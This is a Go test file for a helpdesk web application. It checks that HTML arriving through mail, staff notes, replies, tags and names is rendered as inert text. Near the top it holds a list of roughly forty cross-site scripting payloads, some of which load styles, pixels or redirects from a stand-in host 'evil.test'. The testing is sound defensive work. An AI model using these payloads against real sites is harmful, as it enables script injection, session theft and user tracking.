package web_test

import (
	"bytes"
	"fmt"
	"mime"
	"net/http"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"bothways/internal/auth"
	"bothways/internal/desk"
	"bothways/internal/kit/text"
	"bothways/internal/people"
)

// vectors are ways by which text became script elsewhere: nested tags, namespaces, handlers, addresses, styles, half tags.
var vectors = []string{
	`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'-alert(1)-'`, `<svg/onload=alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<style>@import 'https://evil.test/x.css';</style>`, `<link rel=stylesheet href=//evil.test/x.css>`, `<base href=//evil.test/>`, `<meta http-equiv=refresh content="0;url=//evil.test">`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src=//evil.test/x.swf>`, `<form action=//evil.test><input name=password autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\"jav\tascript:alert(1)\">x</a>", `<a href=" javascript:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<x onclick=alert(1)>click</x>`, `<xmp><p title="</xmp><svg onload=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<p style="background:url(javascript:alert(1))">x`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `[x](javascript:alert(1))`, `![x](https://evil.test/pixel.png)`, `<img src=//evil.test/pixel.png>`, `<video poster=https://evil.test/p.png src=https://evil.test/v.mp4>`, `<img srcset="https://evil.test/a.png 2x">`,
	`<div style="background-image:url('https://evil.test/b.png')">x</div>`, `<input type=image src=https://evil.test/i.png>`, `<table background=https://evil.test/t.png><td>x`, `<body background=//evil.test/y.png onload=alert(1)>`,
}

// inert checks that a page has nothing in it that somebody who wrote to us could have put there to run, load or send.
func inert(t *testing.T, what string, a answer) {
	t.Helper()
	a.doc().Find("*").Each(func(_ int, e *goquery.Selection) {
		switch tag := goquery.NodeName(e); tag {
		case "iframe", "frame", "object", "embed", "applet", "base", "style", "img", "image", "picture", "source", "video", "audio", "math", "foreignobject", "noscript", "xmp", "plaintext", "marquee", "x", "mglyph", "mtext":
			t.Errorf("%s has <%s>", what, tag)
		case "script", "link":
			if to := e.AttrOr("src", e.AttrOr("href", "")); !strings.HasPrefix(to, "/web/") {
				t.Errorf("%s has <%s> of %q", what, tag, to)
			}
		case "meta":
			if _, refresh := e.Attr("http-equiv"); refresh {
				t.Errorf("%s has a meta that acts", what)
			}
		}
		for _, at := range e.Nodes[0].Attr {
			v := strings.ToLower(strings.Join(strings.FieldsFunc(at.Val, func(r rune) bool { return r <= ' ' }), ""))
			switch {
			case strings.HasPrefix(at.Key, "on"), at.Key == "style", at.Key == "srcdoc", at.Key == "srcset", at.Key == "poster", at.Key == "background", at.Key == "formaction", at.Key == "ping":
				t.Errorf("%s has %s=%q", what, at.Key, at.Val)
			case at.Key == "src" || at.Key == "action":
				if !strings.HasPrefix(v, "/") || strings.HasPrefix(v, "//") {
					t.Errorf("%s has %s=%q", what, at.Key, at.Val)
				}
			case at.Key == "href":
				if strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:") {
					t.Errorf("%s leads to %q", what, at.Val)
				}
			}
		}
	})
}

// htmlMail is a mail of Helen's, whose sender our own host has checked, with the same in its subject, name and HTML.
func htmlMail(id int, payload string) []byte {
	word := func(s string) string { return mime.BEncoding.Encode("utf-8", s) }
	return fmt.Appendf(nil, "Authentication-Results: mx.norvik.example; dmarc=pass header.from=norvik.example\r\nFrom: %s <helen@norvik.example>\r\nTo: desk@norvik.example\r\nSubject: %s\r\nMessage-ID: <html-%d@norvik.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Before it.</p>\r\n%s\r\n</body></html>\r\n",
		word(payload), word(payload), id, payload)
}

// arrive takes a mail in and gives the ticket it became.
func (w *world) arrive(raw []byte) (n int64) {
	w.t.Helper()
	must(w, func() (string, error) { return w.box.Receive(ctx, "helen@norvik.example", "desk@norvik.example", raw) })
	w.check(w.jobs.RunDue(ctx))
	w.check(w.db.Read().QueryRow(ctx, "SELECT MAX(number) FROM desk_ticket").Scan(&n))
	return n
}

// TestAttack01_MailHTMLIsNeverMarkup: whatever HTML a mail brings, the pages of both sides hold text of it and nothing that runs or
// loads; what is mailed on is plain text; the original stays as it came, byte for byte.
func TestAttack01_MailHTMLIsNeverMarkup(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for i, v := range vectors {
		raw := htmlMail(i, v)
		n := w.arrive(raw)
		staff, own := fmt.Sprintf("/desk/tickets/BW-%d", n), fmt.Sprintf("/requests/BW-%d", n)
		inert(t, fmt.Sprintf("%q, for staff,", v), w.get(&w.amara, staff).want(http.StatusOK))
		page := w.get(&w.helen, own).want(http.StatusOK)
		inert(t, fmt.Sprintf("%q, for the customer,", v), page)
		if i == 0 && !strings.Contains(page.words(), "Before it.") {
			t.Errorf("the words of the mail are not in the page: %s", page.words())
		}
		mails := must(w, func() (string, error) {
			p, err := w.desk.Messages(ctx, auth.SystemActor(), n, "", 0)
			return p.Items[0].MailID, err
		})
		if got := w.get(&w.amara, staff+"/mails/"+mails).want(http.StatusOK).Body.Bytes(); !bytes.Equal(got, raw) {
			t.Errorf("%q: the original is another", v)
		}
	}
	for _, path := range []string{"/desk", "/desk?q=alert", "/desk/search?q=alert", "/inbox"} {
		inert(t, path, w.get(&w.amara, path).want(http.StatusOK))
	}
}

// TestAttack05_WhatStaffWriteIsNoMarkupEither: notes, replies, questions, saved answers, tags and views go past the editor as raw
// HTML, and come back as text, on the pages of both sides.
func TestAttack05_WhatStaffWriteIsNoMarkupEither(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	n := w.ask(&w.helen, "VPN drops")
	at, own := fmt.Sprintf("/desk/tickets/BW-%d", n), fmt.Sprintf("/requests/BW-%d", n)
	for i, v := range vectors {
		w.post(&w.amara, at+"/note", "body", v).want(http.StatusSeeOther)
		w.post(&w.amara, at+"/reply", "body", v, "after", "customer", "need", v).want(http.StatusSeeOther)
		w.post(&w.amara, "/desk/answers", "title", fmt.Sprintf("%d %s", i, v), "body", v).want(http.StatusSeeOther)
		w.post(&w.amara, "/desk/views", "name", text.Cut(fmt.Sprintf("%d %s", i, v), 60), "query", "vpn", "audience", "own").want(http.StatusSeeOther)
	}
	w.post(&w.amara, at+"/tags", "tags", vectors[2]).want(http.StatusSeeOther)
	staff := w.get(&w.amara, at).want(http.StatusOK)
	for path, as := range map[string]*person{at: &w.amara, own: &w.helen, "/": &w.helen, "/requests": &w.helen, "/desk": &w.amara, "/desk/answers": &w.amara, "/desk/views": &w.amara, "/desk/tags": &w.amara, "/inbox": &w.amara} {
		inert(t, path, w.get(as, path).want(http.StatusOK))
	}
	if doc := staff.doc(); !strings.Contains(doc.Find(".note").Text(), vectors[2]) || !strings.Contains(doc.Find(".msg").Text(), vectors[0]) {
		t.Error("what was written is not shown as it was written: this test would show nothing")
	}
	if got := w.get(&w.amara, "/desk/answers").words(); !strings.Contains(got, vectors[0]) {
		t.Errorf("the saved answers are not there: %s", got)
	}
}

// TestAttack04_TitlesAndNamesAreText: in subject, names of people, organisations, sites, rooms, teams and services, and of
// whoever writes by mail; on every page that a reader of each kind reaches, and in what is mailed.
func TestAttack04_TitlesAndNamesAreText(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	const evil = `"><img src=x onerror=alert(1)>`
	admin := s.person("Adam "+evil, "adam@it.example", s.base.Provider.ID, "", auth.Grant{Role: auth.Administrator, Scope: auth.Everywhere}, auth.Grant{Role: auth.Agent, Scope: auth.Everywhere})
	sys := auth.SystemActor()
	org := must(s.world, func() (people.Organisation, error) {
		return s.peo.CreateOrganisation(ctx, sys, people.OrganisationInput{Name: "Org " + evil, Kind: people.Customer})
	})
	place := must(s.world, func() (people.Site, error) {
		return s.peo.CreateSite(ctx, sys, people.SiteInput{OrgID: org.ID, Name: "Site " + evil, Zone: "Europe/London", Region: "Region " + evil})
	})
	mallory := s.person("Mallory "+evil, "mallory@evil.example", org.ID, place.ID)
	must(s.world, func() (people.Team, error) {
		return s.peo.RenameTeam(ctx, sys, s.base.Desk.ID, 0, "Team "+evil)
	})
	must(s.world, func() (people.Team, error) {
		return s.peo.CreateTeam(ctx, sys, people.TeamInput{Name: "Vendor " + evil, Kind: "supplier"})
	})
	s.post(&admin, "/desk/answers", "title", "Answer "+evil, "body", evil).want(http.StatusSeeOther)
	s.post(&admin, "/desk/views", "name", "View "+evil, "query", "subject", "audience", "staff").want(http.StatusSeeOther)
	n := must(s.world, func() (desk.Ticket, error) {
		return s.desk.Open(ctx, mallory.Actor, desk.OpenInput{Subject: "Subject " + evil, Description: evil})
	}).Number
	s.post(&admin, fmt.Sprintf("/desk/tickets/BW-%d/tags", n), "tags", evil).want(http.StatusSeeOther)
	s.post(&admin, fmt.Sprintf("/desk/tickets/BW-%d/reply", n), "body", evil, "after", "customer", "need", evil).want(http.StatusSeeOther)
	s.arrive(htmlMail(900, evil))
	shown := 0
	for _, r := range allPages(s) {
		for _, who := range []*person{&admin, &mallory} {
			a := s.send(who, "GET", s.path(r, n, s.file))
			if !strings.HasPrefix(a.Header().Get("Content-Type"), "text/html") || strings.HasPrefix(r.Path, "/gallery") {
				continue
			}
			inert(t, r.Path, a)
			if a.Code == http.StatusOK && strings.Contains(a.words(), evil) {
				shown++
			}
		}
	}
	if shown < 20 {
		t.Errorf("only %d pages show what was put there: this test would show little", shown)
	}
}
